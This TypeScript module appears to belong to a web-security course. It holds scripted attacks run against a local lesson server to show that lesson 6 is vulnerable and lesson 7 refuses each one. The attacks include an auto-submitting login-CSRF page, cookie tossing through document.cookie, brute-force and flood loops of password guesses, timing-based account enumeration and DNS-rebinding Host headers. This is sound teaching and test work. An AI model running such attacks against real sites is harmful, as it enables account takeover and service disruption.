/**
 * The attacks of issue 15, each a short story told to a lesson's server: on lesson 6 it gets
 * through, on lesson 7 it is refused. `npm run attack -- <name> --lesson N` runs one; the
 * checks of lesson 7 prove the same over and over (each attack names its claim).
 *
 * @module
 */
import Database from 'better-sqlite3';
import { randomBytes } from 'node:crypto';
import { availableParallelism, loadavg } from 'node:os';
import type { Page } from 'playwright-core';
import { LessonServer, ServerStartError, makeTempDir, removeTempDir } from '../checks/server.ts';
import { lesson as curriculumLesson, lessonPaths } from '../lessons/curriculum.ts';
import type { Lab } from './lab.ts';
import { openLab, withBrowser, type Answer } from './lab.ts';

/** What an attack found. */
export interface Outcome {
  /** Whether the attack got what it was after. */
  succeeded: boolean;
  /** One line: what happened. */
  summary: string;
  /** The story, step by step, with the server's answers. */
  steps: string[];
  /** Screenshots saved (browser attacks with `--screenshots`). */
  screenshots?: string[];
}

/** One attack. */
export interface Attack {
  name: string;
  /** The item of issue 15 it belongs to. */
  item: string;
  /** What the attacker wants. */
  goal: string;
  /** The lesson 7 claim that proves it refused. */
  claim: string;
  /** Runs in Chromium. */
  browser?: boolean;
  /** Extra environment for the server (the lesson's defaults otherwise). */
  env?: Record<string, string>;
  run(lab: Lab, options: { screenshots: string | null }): Promise<Outcome>;
}

const ME = '/api/v1/users/me';
const LOGIN = '/api/v1/auth_session/login';

function show(answer: Answer): string {
  const body = answer.body.length > 120 ? `${answer.body.slice(0, 120)}…` : answer.body;
  const retry = answer.headers['retry-after'] ? ` (Retry-After: ${answer.headers['retry-after']})` : '';
  return `${answer.status} ${body}${retry}`;
}

function median(values: readonly number[]): number {
  const sorted = [...values].sort((a, b) => a - b);
  return sorted[Math.floor(sorted.length / 2)] ?? NaN;
}

async function timed<T>(work: () => Promise<T>): Promise<[T, number]> {
  const started = performance.now();
  const result = await work();
  return [result, performance.now() - started];
}

function emailOf(answer: Answer): string | null {
  try {
    return (JSON.parse(answer.body) as { email?: string }).email ?? null;
  } catch {
    return null;
  }
}

const wrongPassword = 'not-the-password-1';

/** Logs bob in with the playground's form, in the browser. */
async function playgroundLogin(page: Page, lab: Lab): Promise<void> {
  await page.goto(`${lab.url}/`);
  await page.fill('#login-form input[name=email]', lab.bob.email);
  await page.fill('#login-form input[name=password]', lab.bob.password);
  await clickAndWait(page, '#login-form button[type=submit]');
}

/** Clicks a playground button and waits for its answer; returns the "What came back" text. */
async function clickAndWait(page: Page, selector: string): Promise<string> {
  const before = Number(await page.getAttribute('#answer', 'data-answers'));
  await page.click(selector);
  await page.waitForFunction((count) => Number(document.getElementById('answer')?.dataset.answers) > count, before);
  return `${await page.textContent('#status')} ${await page.textContent('#body')}`;
}

/** Every attack, in the order of the issue's items. */
export const attacks: readonly Attack[] = [
  {
    name: 'idor',
    item: '1. authorization',
    goal: "eve, logged in as herself, changes and deletes bob's account",
    claim: 'L7-own-account-only',
    async run(lab) {
      const eve = await lab.logIn(lab.eve);
      const put = await lab.request('PUT', `/api/v1/users/${lab.bob.id}`, { cookie: eve, json: { first_name: 'pwned by eve' } });
      const del = await lab.request('DELETE', `/api/v1/users/${lab.bob.id}`, { cookie: eve });
      const bob = await lab.logIn(lab.bob);
      return {
        succeeded: put.status === 200 || del.status === 200,
        summary: del.status === 200 ? "eve deleted bob's account: bob can no longer log in" : put.status === 200 ? "eve renamed bob" : 'refused: 403 for another user\'s id',
        steps: [
          `eve logs in as herself: ${eve ? 'a session cookie' : 'no cookie'}`,
          `PUT /api/v1/users/<bob's id> {"first_name": "pwned by eve"} → ${show(put)}`,
          `DELETE /api/v1/users/<bob's id> → ${show(del)}`,
          `bob logs in → ${bob ? '200' : 'refused: his account is gone'}`,
        ],
      };
    },
  },
  {
    name: 'login-csrf',
    item: '2. CSRF',
    goal: "a page of another site logs bob's browser in as eve, so that what bob does next lands in eve's account",
    claim: 'L7-browser-csrf',
    browser: true,
    async run(lab, { screenshots }) {
      return withBrowser(lab, screenshots, async (browser) => {
        const { page } = browser;
        await playgroundLogin(page, lab);
        const before = await clickAndWait(page, '#whoami');
        const fields = `<input type="hidden" name="email" value="${lab.eve.email}"><input type="hidden" name="password" value="${lab.eve.password}">`;
        const attacker = browser.otherSite(`<!doctype html><title>Win a prize</title><body onload="document.forms[0].submit()"><form method="POST" action="${lab.url}${LOGIN}">${fields}</form></body>`);
        const other = await browser.newPage();
        const [posted] = await Promise.all([other.waitForResponse((res) => res.url() === `${lab.url}${LOGIN}`), other.goto(attacker)]);
        await page.bringToFront();
        const after = await clickAndWait(page, '#whoami');
        const shot = await browser.screenshot(page, `attack-login-csrf-lesson${lab.lesson}.png`);
        const asEve = after.includes(lab.eve.email);
        return {
          succeeded: asEve,
          summary: asEve ? "bob's browser is logged in as eve now" : `refused: the login from ${new URL(attacker).origin} answered ${posted.status()}, bob is still bob`,
          steps: [
            `bob logs in on the playground (${lab.url}/): Who am I? → ${before.slice(0, 90)}`,
            `bob opens ${new URL(attacker).origin}, whose page submits a login form with eve's email and password to ${LOGIN} → ${posted.status()} ${(await posted.text()).slice(0, 80)}`,
            `back on the playground: Who am I? → ${after.slice(0, 90)}`,
          ],
          screenshots: shot ? [shot] : [],
        };
      });
    },
  },
  {
    name: 'brute-force',
    item: '3. throttling',
    goal: "guess bob's password: 50 wrong guesses in a row, then the right one",
    claim: 'L7-throttle-account',
    async run(lab) {
      const cpuBefore = lab.cpuMs();
      const statuses = new Map<number, number>();
      let first429: number | null = null;
      let retryAfter: string | undefined;
      const started = performance.now();
      for (let guess = 1; guess <= 50; guess++) {
        const answer = await lab.request('POST', LOGIN, { form: { email: lab.bob.email, password: `${wrongPassword}${guess}` } });
        statuses.set(answer.status, (statuses.get(answer.status) ?? 0) + 1);
        if (answer.status === 429 && first429 === null) [first429, retryAfter] = [guess, String(answer.headers['retry-after'])];
      }
      const seconds = (performance.now() - started) / 1000;
      const cpu = cpuBefore === null ? null : (lab.cpuMs()! - cpuBefore) / 1000;
      const right = await lab.request('POST', LOGIN, { form: { email: lab.bob.email, password: lab.bob.password } });
      const counted = [...statuses].map(([status, n]) => `${n} × ${status}`).join(', ');
      return {
        succeeded: right.status === 200 && first429 === null,
        summary: first429 === null ? `50 guesses, all checked, then the right password let in: ${counted}` : `429 from guess ${first429} on (Retry-After: ${retryAfter} s), and the right password is refused too until then`,
        steps: [
          `50 wrong passwords for ${lab.bob.email}, one after the other: ${counted}, in ${seconds.toFixed(1)} s`,
          `server CPU for them: ${cpu === null ? 'unknown (no /proc)' : `${cpu.toFixed(2)} s (${((cpu * 1000) / 50).toFixed(0)} ms a guess)`}`,
          `then the right password → ${show(right)}`,
        ],
      };
    },
  },
  {
    name: 'flood',
    item: '3. throttling',
    goal: "four connections of wrong passwords for eve's account, from one address, for 20 s: every guess costs a scrypt, and bob's login slows down",
    claim: 'L7-throttle-account',
    // As if behind a proxy on this machine, so that the attacker and bob have addresses of their own.
    env: { TRUST_PROXY: 'loopback' },
    async run(lab) {
      // The proxy says where each request came from, and that it came over TLS.
      const bobFrom = { 'X-Forwarded-For': '198.51.100.7', 'X-Forwarded-Proto': 'https' };
      const evilFrom = { 'X-Forwarded-For': '203.0.113.66', 'X-Forwarded-Proto': 'https' };
      const bobLogin = () => timed(() => lab.request('POST', LOGIN, { form: { email: lab.bob.email, password: lab.bob.password }, headers: bobFrom }));
      const quiet: number[] = [];
      for (let i = 0; i < 3; i++) quiet.push((await bobLogin())[1]);
      const cpuBefore = lab.cpuMs();
      const statuses = new Map<number, number>();
      const floodMs = 20_000;
      const until = performance.now() + floodMs;
      const flood = Array.from({ length: 4 }, async () => {
        while (performance.now() < until) {
          const password = `${wrongPassword}-${randomBytes(3).toString('hex')}`;
          const answer = await lab.request('POST', LOGIN, { form: { email: lab.eve.email, password }, headers: evilFrom });
          statuses.set(answer.status, (statuses.get(answer.status) ?? 0) + 1);
        }
      });
      const busy: number[] = [];
      // Bob comes in the second half of the flood.
      const bobWhileFlooded = (async () => {
        await new Promise((resolve) => setTimeout(resolve, floodMs / 2));
        for (let i = 0; i < 3; i++) busy.push((await bobLogin())[1]);
      })();
      await Promise.all([...flood, bobWhileFlooded]);
      const cpu = cpuBefore === null ? null : (lab.cpuMs()! - cpuBefore) / 1000;
      const sent = [...statuses.values()].reduce((a, b) => a + b, 0);
      const checked = statuses.get(401) ?? 0;
      const counted = [...statuses].map(([status, n]) => `${n} × ${status}`).join(', ');
      return {
        // Every guess was checked: nothing stopped the flood.
        succeeded: !statuses.has(429),
        summary: `${checked} of ${sent} guesses cost a password hash; bob's login took ${median(busy).toFixed(0)} ms during the flood (${median(quiet).toFixed(0)} ms before)`,
        steps: [
          `bob logs in three times from 198.51.100.7: median ${median(quiet).toFixed(0)} ms`,
          `for ${floodMs / 1000} s, four connections from 203.0.113.66 send wrong passwords for ${lab.eve.email}: ${counted}`,
          `server CPU during the flood: ${cpu === null ? 'unknown (no /proc)' : `${cpu.toFixed(1)} s in ${floodMs / 1000} s, ${((cpu * 1000) / Math.max(1, sent)).toFixed(1)} ms a request`}`,
          `bob logs in three times during it: median ${median(busy).toFixed(0)} ms (each ${busy.map((ms) => ms.toFixed(0)).join(', ')} ms)`,
          `load average of this machine (${availableParallelism()} cores) at the end: ${loadavg()[0]!.toFixed(1)}`,
        ],
      };
    },
  },
  {
    name: 'enumeration',
    item: '4. no enumeration',
    goal: 'find out which emails have an account, from the answer or from its time',
    claim: 'L7-login-same-answer',
    async run(lab) {
      const unknown: [Answer, number][] = [];
      const wrong: [Answer, number][] = [];
      for (let i = 0; i < 6; i++) {
        unknown.push(await timed(() => lab.request('POST', LOGIN, { form: { email: `nobody${i}@hbtn.io`, password: wrongPassword } })));
        wrong.push(await timed(() => lab.request('POST', LOGIN, { form: { email: lab.bob.email, password: wrongPassword } })));
      }
      const [unknownMs, wrongMs] = [median(unknown.slice(1).map(([, ms]) => ms)), median(wrong.slice(1).map(([, ms]) => ms))];
      const differ = unknown[0]![0].body !== wrong[0]![0].body || unknown[0]![0].status !== wrong[0]![0].status;
      const slower = wrongMs / unknownMs;
      return {
        succeeded: differ || slower > 2,
        summary: differ ? 'the answers differ: every email can be tried' : slower > 2 ? `the answers match, but a known email is ${slower.toFixed(0)} times slower` : `the same answer and the same time (${unknownMs.toFixed(0)} and ${wrongMs.toFixed(0)} ms)`,
        steps: [
          `an unknown email → ${show(unknown[0]![0])}, median ${unknownMs.toFixed(1)} ms`,
          `bob's email, a wrong password → ${show(wrong[0]![0])}, median ${wrongMs.toFixed(1)} ms`,
        ],
      };
    },
  },
  {
    name: 'cookie-tossing',
    item: '5. cookie integrity',
    goal: "a page on another port of the same host plants eve's session cookie with a longer Path: bob's requests run as eve",
    claim: 'L7-browser-cookie-tossing',
    browser: true,
    async run(lab, { screenshots }) {
      const planted = await lab.logIn(lab.eve);
      if (!planted) throw new Error('eve could not log in');
      return withBrowser(lab, screenshots, async (browser) => {
        const { page } = browser;
        await playgroundLogin(page, lab);
        const before = await clickAndWait(page, '#whoami');
        const attacker = browser.otherPort('<!doctype html><title>Another port</title><p>A page on another port of the same host.</p>');
        const other = await browser.newPage();
        await other.goto(attacker);
        await other.evaluate((cookie) => {
          for (const attributes of ['; Path=/api/v1/users', '; Path=/api/v1/users; Secure', '; Path=/; Secure']) document.cookie = `${cookie}${attributes}`;
        }, planted);
        await page.bringToFront();
        const after = await clickAndWait(page, '#whoami');
        const shot = await browser.screenshot(page, `attack-cookie-tossing-lesson${lab.lesson}.png`);
        const asEve = after.includes(lab.eve.email);
        return {
          succeeded: asEve,
          summary: asEve ? "bob's requests to /api/v1/users run in eve's session" : 'refused: the browser kept no planted cookie, bob is still bob',
          steps: [
            `bob logs in on the playground: Who am I? → ${before.slice(0, 90)}`,
            `a page on ${new URL(attacker).origin} (the same host, another port: cookies ignore ports) sets document.cookie = "${planted.split('=')[0]}=<eve's session>; Path=/api/v1/users"`,
            `back on the playground: Who am I? → ${after.slice(0, 90)}`,
          ],
          screenshots: shot ? [shot] : [],
        };
      });
    },
  },
  {
    name: 'stolen-session',
    item: '6. session lifecycle',
    goal: 'a thief keeps a copy of bob\'s session; bob changes his password and logs out everywhere',
    claim: 'L7-password-change',
    async run(lab) {
      const stolen = await lab.logIn(lab.bob);
      const mine = await lab.logIn(lab.bob);
      const fresh = `${lab.bob.password}-new`;
      const change = await lab.request('PUT', '/api/v1/users/me/password', { cookie: mine, form: { current_password: lab.bob.password, new_password: fresh } });
      const everywhere = await lab.request('DELETE', '/api/v1/auth_session/logout_everywhere', { cookie: change.cookie ?? mine });
      const thief = await lab.request('GET', ME, { cookie: stolen });
      return {
        succeeded: thief.status === 200,
        summary: thief.status === 200 ? "the thief's copy still works: bob has no way to end it" : "the thief's copy is refused",
        steps: [
          'the thief holds a copy of one of bob\'s session cookies (a shared computer, a leaked log)',
          `bob, on his own session: PUT /api/v1/users/me/password → ${show(change)}`,
          `bob: DELETE /api/v1/auth_session/logout_everywhere → ${show(everywhere)}`,
          `the thief: GET /api/v1/users/me → ${show(thief)}`,
        ],
      };
    },
  },
  {
    name: 'session-pileup',
    item: '6. session lifecycle',
    goal: 'a stolen session hides among any number of others: fifteen logins, fifteen live sessions',
    claim: 'L7-session-cap',
    async run(lab) {
      const cookies: (string | null)[] = [];
      for (let i = 0; i < 15; i++) cookies.push(await lab.logIn(lab.bob));
      const alive = (await Promise.all(cookies.map((cookie) => lab.request('GET', ME, { cookie })))).filter((answer) => answer.status === 200).length;
      return {
        succeeded: alive === 15,
        summary: alive === 15 ? 'all 15 sessions are alive' : `${alive} of 15 are alive: the oldest ended`,
        steps: [`15 logins of bob, one after the other; then GET ${ME} with each cookie: ${alive} answer 200`],
      };
    },
  },
  {
    name: 'deleted-user-sessions',
    item: '6. session lifecycle',
    goal: "eve's account is deleted, but her sessions stay in the store",
    claim: 'L7-user-delete-ends-sessions',
    async run(lab) {
      await lab.logIn(lab.eve);
      await lab.logIn(lab.eve);
      const bob = await lab.logIn(lab.bob);
      const deleted = await lab.request('DELETE', `/api/v1/users/${lab.eve.id}`, { cookie: bob });
      const db = new Database(lab.dbPath, { readonly: true });
      const left = (db.prepare('SELECT COUNT(*) AS n FROM express_sessions WHERE data LIKE ?').get(`%${lab.eve.id}%`) as { n: number }).n;
      db.close();
      return {
        succeeded: left > 0,
        summary: left > 0 ? `${left} of eve's sessions are still stored` : "eve's sessions went with her account",
        steps: [`eve logs in twice; bob (an admin where there are roles) deletes her: ${show(deleted)}`, `rows of eve's sessions left in express_sessions: ${left}`],
      };
    },
  },
  {
    name: 'dns-rebinding',
    item: '7. headers',
    goal: 'a page of attacker.example, whose name now points at 127.0.0.1, talks to the server as its own origin',
    claim: 'L7-host-allow-list',
    async run(lab) {
      const { port } = new URL(lab.url);
      // What the rebound page's requests look like: another Host, and same-origin to the browser.
      const rebound = { Host: `attacker.example:${port}`, Origin: `http://attacker.example:${port}`, 'Sec-Fetch-Site': 'same-origin' };
      const status = await lab.request('GET', '/api/v1/status', { headers: rebound });
      const login = await lab.request('POST', LOGIN, { headers: rebound, form: { email: lab.bob.email, password: lab.bob.password } });
      return {
        succeeded: login.status === 200,
        summary: login.status === 200 ? "the rebound page logs in and reads the answers: the CSRF check sees same-origin" : 'refused: 421 for a Host the server does not answer for',
        steps: [`GET /api/v1/status with Host: attacker.example → ${show(status)}`, `POST ${LOGIN} with bob's credentials, Host: attacker.example, Sec-Fetch-Site: same-origin → ${show(login)}`],
      };
    },
  },
  {
    name: 'missing-headers',
    item: '7. headers',
    goal: "bob's data may be cached, sniffed or framed",
    claim: 'L7-security-headers',
    async run(lab) {
      const me = await lab.request('GET', ME, { cookie: await lab.logIn(lab.bob) });
      const wanted: [string, RegExp][] = [
        ['cache-control', /no-store/],
        ['x-content-type-options', /nosniff/],
        ['content-security-policy', /frame-ancestors 'none'/],
        ['x-frame-options', /DENY/i],
      ];
      const missing = wanted.filter(([name, test]) => !test.test(String(me.headers[name] ?? ''))).map(([name]) => name);
      return {
        succeeded: missing.length > 0,
        summary: missing.length > 0 ? `GET ${ME} lacks ${missing.join(', ')}` : 'every header is there',
        steps: wanted.map(([name]) => `${name}: ${me.headers[name] ?? '(none)'}`),
      };
    },
  },
  {
    name: 'weak-production',
    item: '8. production settings',
    goal: 'run in production with a 9-character secret, cookies without Secure and sessions that never end',
    claim: 'L7-production-settings',
    async run(lab) {
      const dir = makeTempDir();
      const env = { NODE_ENV: 'production', SESSION_SECRET: 'too-short' };
      try {
        const server = await LessonServer.start({ entry: lessonPaths(curriculumLesson(lab.lesson)).server, env, dbPath: `${dir}/production.db` });
        await server.stop();
        return { succeeded: true, summary: 'the server started', steps: ['NODE_ENV=production SESSION_SECRET=too-short (no COOKIE_SECURE, no SESSION_DURATION): it started'] };
      } catch (error) {
        if (!(error instanceof ServerStartError)) throw error;
        const lines = (error.message.split('its last error lines:\n')[1] ?? '').split('\n').filter(Boolean);
        return { succeeded: false, summary: `refused to start, ${lines.length} error lines`, steps: ['NODE_ENV=production SESSION_SECRET=too-short (no COOKIE_SECURE, no SESSION_DURATION):', ...lines] };
      } finally {
        removeTempDir(dir);
      }
    },
  },
];

/** Runs `attack` on a fresh server of lesson `number`. */
export async function runAttack(attack: Attack, number: number, screenshots: string | null = null): Promise<Outcome> {
  const lab = await openLab(number, attack.env);
  try {
    return await attack.run(lab, { screenshots });
  } finally {
    await lab.stop();
  }
}
